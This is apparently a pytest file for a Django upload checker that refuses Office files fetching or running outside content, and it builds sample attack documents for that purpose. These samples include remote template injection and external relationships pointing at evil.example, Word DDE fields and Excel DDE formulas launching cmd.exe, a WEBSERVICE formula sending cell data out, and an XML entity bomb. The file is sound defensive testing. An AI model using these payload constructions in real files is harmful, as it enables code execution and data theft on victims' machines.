"""Finding 5: Office files that fetch or import content from elsewhere are refused.

A .docx whose settings name a template on a web server (remote template
injection: Word fetches it, macros and all, when the file opens), one with an
altChunk part (HTML that Word imports), and relationships to external OLE
objects, frames, sub-documents and pictures were all accepted. Every .rels part
of a Word, Excel or PowerPoint file is now read with a safe XML parser; a
relationship with TargetMode="External" is refused unless it is a hyperlink, and
attachedTemplate, oleObject, aFChunk (altChunk), frame, subDocument and ActiveX
relationships are refused wherever they point. The files are put together here
with zipfile; a hyperlink to the web must still be accepted.
"""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from reglab.core.uploads import UploadRefused, inspect_upload
from reglab.provrum.models import Document
from tests.provrum import work_samples as samples
from tests.provrum.api_client import ApiClient
from tests.provrum.conftest import cast, make_provrum  # noqa: F401 – fixtures
from tests.provrum.views_helpers import sign_in
from tests.provrum.work_fixtures import (
    add_document,
    people_fixture,  # noqa: F401 – a fixture
    running_fixture,  # noqa: F401 – a fixture
    upload,
)

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_R = "http://purl.oclc.org/ooxml/officeDocument/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def rels(*relationships: tuple) -> str:
    """A .rels part: each relationship is (id, type, target) or (id, type, target, mode)."""
    rows = []
    for relationship in relationships:
        rid, kind, target, *mode = relationship
        mode_attribute = f' TargetMode="{mode[0]}"' if mode else ""
        rows.append(f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode_attribute}/>')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS_NS}">{"".join(rows)}</Relationships>'
    )


def docx_with(*, add=None, replace=None, document_rels=()) -> bytes:
    """python-docx's Word file with parts added or replaced, and more relationships
    in word/_rels/document.xml.rels."""
    data = samples.docx_bytes()
    replace = dict(replace or {})
    if document_rels:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            existing = archive.read("word/_rels/document.xml.rels").decode()
        extra = rels(*document_rels).split(f'<Relationships xmlns="{RELS_NS}">')[1]
        replace["word/_rels/document.xml.rels"] = existing.replace(
            "</Relationships>", extra.replace("</Relationships>", "") + "</Relationships>"
        )
    return samples.rezip(data, add=add, replace=replace)


def template_injection_docx(target="https://evil.example/mall.dotm", mode="External") -> bytes:
    """Word's settings name a template on a web server: Word fetches it on opening."""
    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
        settings = archive.read("word/settings.xml").decode()
    settings = settings.replace(
        "<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/><w:zoom', 1
    )
    assert "attachedTemplate" in settings
    return docx_with(
        replace={"word/settings.xml": settings},
        add={"word/_rels/settings.xml.rels": rels(("rId1", f"{R}/attachedTemplate", target, mode))},
    )


def alt_chunk_docx() -> bytes:
    """An altChunk: an HTML part that Word imports into the document when it opens."""
    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
        document = archive.read("word/document.xml").decode()
        types = archive.read("[Content_Types].xml").decode()
    document = document.replace(
        "<w:sectPr", f'<w:altChunk xmlns:r="{R}" r:id="rIdChunk"/><w:sectPr', 1
    )
    types = types.replace("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>')
    return docx_with(
        replace={"word/document.xml": document, "[Content_Types].xml": types},
        add={"word/chunk.html": "<html><body><img src='https://evil.example/x'></body></html>"},
        document_rels=[("rIdChunk", f"{R}/aFChunk", "chunk.html")],
    )


def hyperlink_docx() -> bytes:
    """A Word file with a link to the web: an external relationship that is allowed."""
    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
        document = archive.read("word/document.xml").decode()
    link = (
        f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rIdLink"><w:r><w:t>Reglab</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )
    document = document.replace("<w:sectPr", link + "<w:sectPr", 1)
    return docx_with(
        replace={"word/document.xml": document},
        document_rels=[("rIdLink", f"{R}/hyperlink", "https://reglab.se/?a=1&amp;b=2", "External")],
    )


def refused(name: str, data: bytes) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect_upload(name, data)
    assert name in caught.value.message
    return caught.value


# Refused by the checks -------------------------------------------------------------------


def test_a_remote_template_is_refused():
    assert refused("rapport.docx", template_injection_docx()).code == "office_external_content"


def test_a_template_relationship_is_refused_even_inside_the_file():
    data = template_injection_docx(target="mall.dotm", mode="Internal")
    assert refused("rapport.docx", data).code == "office_external_content"


def test_an_alt_chunk_is_refused():
    assert refused("rapport.docx", alt_chunk_docx()).code == "office_embedded_content"


@pytest.mark.parametrize(
    ("relationship", "code"),
    [
        (("rIdX", f"{R}/oleObject", "file://server/share/o.bin", "External"),
         "office_external_content"),
        (("rIdX", f"{R}/oleObject", "embeddings/oleObject1.bin"), "office_embedded_content"),
        (("rIdX", f"{R}/frame", "https://evil.example/frame.html", "External"),
         "office_external_content"),
        (("rIdX", f"{R}/frame", "frame.xml"), "office_embedded_content"),
        (("rIdX", f"{R}/subDocument", "https://evil.example/del.docx", "External"),
         "office_external_content"),
        (("rIdX", f"{R}/subDocument", "del.docx"), "office_embedded_content"),
        (("rIdX", f"{R}/image", "https://evil.example/spårning.png", "External"),
         "office_external_content"),
        (("rIdX", f"{R}/image", "\\\\evil.example\\share\\x.png", "External"),
         "office_external_content"),
        (("rIdX", f"{STRICT_R}/attachedTemplate", "https://evil.example/t.dotm", "External"),
         "office_external_content"),
        (("rIdX", f"{R}/AttachedTemplate", "https://evil.example/t.dotm", "external"),
         "office_external_content"),
        (("rIdX", f"{R}/control", "activeX/activeX1.xml"), "office_embedded_content"),
        (("rIdX", f"{STRICT_R}/aFChunk", "chunk.mht"), "office_embedded_content"),
    ],
    ids=[
        "ole-external", "ole-inside", "frame-external", "frame-inside", "subdocument-external",
        "subdocument-inside", "picture-external", "picture-unc", "strict-template",
        "odd-case", "activex", "strict-altchunk",
    ],
)  # fmt: skip
def test_other_relationships_that_fetch_or_import_are_refused(relationship, code):
    assert refused("rapport.docx", docx_with(document_rels=[relationship])).code == code


def test_every_rels_part_is_read_not_only_the_documents():
    # A relationship in the web settings (where Word keeps frames) and one in the
    # package's own .rels.
    web = rels(("rId1", f"{R}/frame", "https://evil.example/f.html", "External"))
    data = docx_with(add={"word/_rels/webSettings.xml.rels": web})
    assert refused("rapport.docx", data).code == "office_external_content"
    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
        package = archive.read("_rels/.rels").decode()
    package = package.replace(
        "</Relationships>",
        f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    )
    data = samples.rezip(samples.docx_bytes(), replace={"_rels/.rels": package})
    assert refused("rapport.docx", data).code == "office_external_content"


def test_an_excel_workbook_that_links_elsewhere_is_refused():
    link = rels(("rId1", f"{R}/externalLinkPath", "https://evil.example/data.xlsx", "External"))
    data = samples.rezip(
        samples.xlsx_bytes(), add={"xl/externalLinks/_rels/externalLink1.xml.rels": link}
    )
    assert refused("budget.xlsx", data).code == "office_external_content"


def test_a_presentation_with_an_external_object_is_refused():
    slide = rels(("rId2", f"{R}/oleObject", "https://evil.example/o.bin", "External"))
    data = samples.ooxml_bytes("pptx", members={"ppt/slides/_rels/slide1.xml.rels": slide})
    assert refused("bilder.pptx", data).code == "office_external_content"


def test_a_rels_part_with_an_entity_declaration_is_refused():
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        f'<Relationships xmlns="{RELS_NS}"><Relationship Id="r" Type="&b;" Target="x"/>'
        "</Relationships>"
    )
    data = docx_with(add={"word/_rels/settings.xml.rels": bomb})
    assert refused("rapport.docx", data).code == "zip_broken"


def test_a_rels_part_that_is_not_xml_is_refused():
    data = docx_with(add={"word/_rels/settings.xml.rels": "<Relationships><Relat"})
    assert refused("rapport.docx", data).code == "zip_broken"


def test_the_messages_are_swedish():
    with translation.override("sv"):
        external = refused("rapport.docx", template_injection_docx()).message
        embedded = refused("rapport.docx", alt_chunk_docx()).message
    assert "rapport.docx" in external and "hämtar" in external
    assert "rapport.docx" in embedded and "inbäddat" in embedded


# Harmless files are kept -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("Länkar.docx", hyperlink_docx),
        (
            "Strikt länk.docx",
            lambda: docx_with(
                document_rels=[("rIdL", f"{STRICT_R}/hyperlink", "mailto:kansli@reglab.se",
                                "External")]
            ),
        ),
        ("Minnesanteckningar.docx", samples.docx_bytes),
        ("Budget.xlsx", samples.xlsx_bytes),
        ("Bilder.pptx", samples.pptx_bytes),
    ],
)  # fmt: skip
def test_files_with_hyperlinks_and_plain_files_are_accepted(name, make):
    inspected = inspect_upload(name, make())
    assert inspected.kind == name.rsplit(".", 1)[1]


# Through the service, the page and the API -----------------------------------------------

ATTACKS = [
    (template_injection_docx, "office_external_content"),
    (alt_chunk_docx, "office_embedded_content"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("make", "code"), ATTACKS, ids=["template", "altchunk"])
def test_the_upload_service_refuses_the_attacks(running, people, make, code):
    with pytest.raises(ValidationError) as caught:
        add_document(running, people["leader"], name="Protokoll.docx", data=make())
    error = caught.value.error_dict["file"][0]
    assert error.code == code
    assert "Protokoll.docx" in error.message
    assert not Document.objects.exists()


@pytest.mark.django_db
def test_the_upload_service_keeps_a_file_with_a_hyperlink(running, people):
    document = add_document(running, people["leader"], name="Länkar.docx", data=hyperlink_docx())
    assert Document.objects.get().pk == document.pk
    assert document.kind == "docx"


@pytest.mark.django_db
@pytest.mark.parametrize(("make", "code"), ATTACKS, ids=["template", "altchunk"])
def test_the_upload_page_refuses_the_attacks(client, running, people, make, code):
    response = sign_in(client, people["participant"]).post(
        reverse("provrum:document_upload", args=[running.pk]),
        {"file": upload("Protokoll.docx", make(), "application/octet-stream")},
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert f'data-codes="{code}"' in page
    assert "Protokoll.docx" in page
    assert not Document.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(("make", "code"), ATTACKS, ids=["template", "altchunk"])
def test_the_api_refuses_the_attacks(client, running, people, make, code):
    data = make()
    response = client.post(
        f"/api/v1/provrum/{running.pk}/documents",
        {"file": SimpleUploadedFile("Protokoll.docx", data)},
        headers=ApiClient(client, people["leader"]).headers,
    )
    assert response.status_code == 422
    message = response.json()["fields"]["file"][0]
    assert message == refused("Protokoll.docx", data).message
    assert not Document.objects.exists()


@pytest.mark.django_db
def test_the_api_keeps_a_file_with_a_hyperlink(client, running, people):
    response = client.post(
        f"/api/v1/provrum/{running.pk}/documents",
        {"file": SimpleUploadedFile("Länkar.docx", hyperlink_docx())},
        headers=ApiClient(client, people["leader"]).headers,
    )
    assert response.status_code == 201, response.content
    assert Document.objects.get().name == "Länkar.docx"


# Field codes, embedded packages and Excel's links (issue 10, second round) ----------------
#
# Word fetches what an INCLUDEPICTURE, INCLUDETEXT, LINK or IMPORT field names (a web
# address or a file on a network share) and runs what a DDE or DDEAUTO field names,
# without any relationship in a .rels part. The field's instruction may be split over
# several runs and written in any case.

STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(*pieces: str) -> str:
    """A complex field whose instruction is written in one run per piece."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(run(piece) for piece in pieces)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def simple_field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def field_docx(paragraphs: str) -> bytes:
    """python-docx's Word file with ``paragraphs`` (WordprocessingML) in its body."""
    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
        document = archive.read("word/document.xml").decode()
    return docx_with(
        replace={"word/document.xml": document.replace("<w:sectPr", paragraphs + "<w:sectPr", 1)}
    )


FETCHING_FIELDS = {
    "includepicture-split": field(" INCLUDE", "PIC", 'TURE "https://evil.example/spår.png" \\d '),
    "includetext-lower": simple_field(" includetext &quot;C:\\\\Users\\\\Public\\\\x.txt&quot; "),
    "link": field('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\share\\\\a.xlsx" "Blad1!R1C1" \\a'),
    "dde": field('DDE c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
    "ddeauto-mixed-case": field("  DdeAuto ", 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "import": simple_field("IMPORT https://evil.example/bild.wmf"),
    # { { QUOTE "INCLUDETEXT" } "C:\x.txt" }: the field's name is another field's result.
    "nested-name": field(" ").replace(
        '<w:r><w:fldChar w:fldCharType="separate"/>',
        field('QUOTE "INCLUDETEXT"').removeprefix("<w:p>").removesuffix("</w:p>")
        + run(' "C:\\\\x.txt" ')
        + '<w:r><w:fldChar w:fldCharType="separate"/>',
        1,
    ),
}


@pytest.mark.parametrize("what", FETCHING_FIELDS)
def test_fields_that_fetch_or_run_are_refused(what):
    data = field_docx(FETCHING_FIELDS[what])
    assert refused("rapport.docx", data).code == "office_external_content"


def test_a_field_in_a_header_in_strict_word_is_refused():
    header = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="{STRICT_W}">'
        + field("INCLUDEPICTURE ", '"https://evil.example/p.png"')
        + "</w:hdr>"
    )
    data = docx_with(add={"word/header1.xml": header})
    assert refused("rapport.docx", data).code == "office_external_content"


def test_the_field_attack_file_is_read_by_python_docx():
    import docx

    data = field_docx(FETCHING_FIELDS["includepicture-split"])
    body = docx.Document(io.BytesIO(data)).element.body
    instructions = "".join(body.itertext())
    assert 'INCLUDEPICTURE "https://evil.example/spår.png"' in instructions


@pytest.mark.parametrize(
    ("relationship", "code"),
    [
        (("rIdP", f"{R}/package", "embeddings/Dokument1.bin"), "office_embedded_content"),
        (("rIdP", f"{STRICT_R}/package", "embeddings/Dokument1.bin"), "office_embedded_content"),
        (("rIdX", f"{R}/externalLink", "externalLinks/externalLink1.xml"),
         "office_external_content"),
        (("rIdX", f"{R}/connections", "connections.xml"), "office_external_content"),
    ],
    ids=["package", "strict-package", "external-link-inside", "data-connections"],
)  # fmt: skip
def test_embedded_packages_and_external_link_parts_are_refused(relationship, code):
    assert refused("rapport.docx", docx_with(document_rels=[relationship])).code == code


def test_an_excel_workbook_with_a_dde_link_part_is_refused():
    dde = (
        '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats'
        '.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
        "</externalLink>"
    )
    workbook_rels = rels(
        ("rId9", f"{R}/externalLink", "externalLinks/externalLink1.xml"),
    )
    data = samples.rezip(
        samples.xlsx_bytes(),
        add={"xl/externalLinks/externalLink1.xml": dde, "xl/_rels/extra.xml.rels": workbook_rels},
    )
    assert refused("budget.xlsx", data).code == "office_external_content"


def xlsx_with_formula(formula: str) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = 1
    workbook.active["A2"] = formula
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        '=1+cmd|"/c calc"!A1',
        '=WEBSERVICE("https://evil.example/?"&A1)',
        '=_xlfn.WEBSERVICE("https://evil.example/")',
        '=RTD("server.progid",,"topic")',
    ],
    ids=["dde", "dde-msexcel", "dde-in-expression", "webservice", "webservice-prefixed", "rtd"],
)
def test_excel_formulas_that_fetch_or_run_are_refused(formula):
    assert refused("budget.xlsx", xlsx_with_formula(formula)).code == "office_external_content"


def test_a_presentation_with_an_embedded_package_is_refused():
    slide = rels(("rId2", f"{R}/package", "../embeddings/Microsoft_Word_Document.bin"))
    data = samples.ooxml_bytes("pptx", members={"ppt/slides/_rels/slide1.xml.rels": slide})
    assert refused("bilder.pptx", data).code == "office_embedded_content"


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("Fält.docx", lambda: field_docx(
            field(' HYPERLINK "https://reglab.se/link/includetext" ')
            + field(" PAGE ") + simple_field(' REF link_bokmarke \\h ')
            + field(' TOC \\o "1-3" \\h ') + simple_field("DATE \\@ &quot;yyyy-MM-dd&quot;")
        )),
        ("Länkar.docx", hyperlink_docx),
        ("Formler.xlsx", lambda: xlsx_with_formula('=SUM(A1:A1)&"a|b"&"cmd|x"')),
        ("Budget.xlsx", samples.xlsx_bytes),
    ],
    ids=["fields", "hyperlink", "formula-with-pipes-in-text", "plain-xlsx"],
)  # fmt: skip
def test_ordinary_fields_and_formulas_are_accepted(name, make):
    assert inspect_upload(name, make()).kind == name.rsplit(".", 1)[1]


def test_the_field_refusal_is_swedish():
    with translation.override("sv"):
        message = refused("rapport.docx", field_docx(FETCHING_FIELDS["dde"])).message
    assert "rapport.docx" in message and "hämtar" in message
